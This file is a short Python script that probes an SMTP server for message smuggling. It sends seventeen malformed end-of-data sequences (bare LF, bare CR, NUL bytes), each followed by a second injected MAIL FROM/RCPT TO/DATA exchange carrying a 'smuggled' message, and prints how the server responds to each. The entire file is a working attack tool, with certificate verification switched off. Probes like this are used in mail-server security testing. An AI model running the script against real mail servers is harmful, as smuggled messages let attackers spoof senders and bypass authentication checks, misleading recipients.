"""Sends a message with another one hidden behind each kind of wrong end: smuggle.py PORT SENDER RECIPIENT [USER PASSWORD].

Prints for each variant what the server said at its end."""
import socket
import ssl
import sys

VARIANTS = [
    b"\n.\n", b"\n.\r\n", b"\r.\r\n", b"\r.\r", b"\r\n.\n", b"\r\n.\r", b"\r\n\x00.\r\n", b"\r\n.\x00\r\n", b"\r\n.\r\r\n",
    b"\r\r\n.\r\r\n", b"\n\n.\r\n", b"\n\n.\n", b"\r\n.\n\n", b"\r\n.\r.\r\n", b"\r\n\r.\r\n", b"\n.\r\r\n", b"\x00\r\n..\r\n\n.\n",
]
port, sender, recipient = int(sys.argv[1]), sys.argv[2], sys.argv[3]
login = [word for word in sys.argv[4:6] if word]


def talk(number, variant):
    raw = socket.create_connection((sys.argv[6] if len(sys.argv) > 6 else "127.0.0.1", port), timeout=15)
    stream = raw.makefile("rwb")

    def reply():
        while True:
            line = stream.readline()
            if not line:
                return b"(hung up)"
            if line[3:4] != b"-":
                return line.strip()

    def say(line):
        stream.write(line.encode() + b"\r\n")
        stream.flush()
        return reply()

    reply()
    say("EHLO client.test")
    if login:
        say("STARTTLS")
        context = ssl._create_unverified_context()
        raw = context.wrap_socket(raw)
        stream = raw.makefile("rwb")
        say("EHLO client.test")
        import base64
        said = say("AUTH PLAIN " + base64.b64encode(f"\0{login[0]}\0{login[1]}".encode()).decode())
        assert said.startswith(b"235"), said
    say(f"MAIL FROM:<{sender}>")
    said = say(f"RCPT TO:<{recipient}>")
    assert said.startswith(b"250"), said
    assert say("DATA").startswith(b"354")
    stream.write(f"From: {sender}\r\nTo: {recipient}\r\nSubject: outer {number}\r\nMessage-ID: <{number}.{port}@client.test>\r\n"
                 f"Date: Sat, 28 Nov 2026 00:00:00 +0000\r\n\r\nwords".encode() + variant
                 + f"MAIL FROM:<{sender}>\r\nRCPT TO:<{recipient}>\r\nDATA\r\nFrom: {sender}\r\nSubject: smuggled {number}\r\n\r\nevil".encode()
                 + b"\r\n.\r\n")
    stream.flush()
    print(number, variant, reply().decode(errors="replace"), flush=True)
    raw.close()


for number, variant in enumerate(VARIANTS):
    try:
        talk(number, variant)
    except (OSError, ValueError) as error:
        print(number, variant, f"({error})", flush=True)
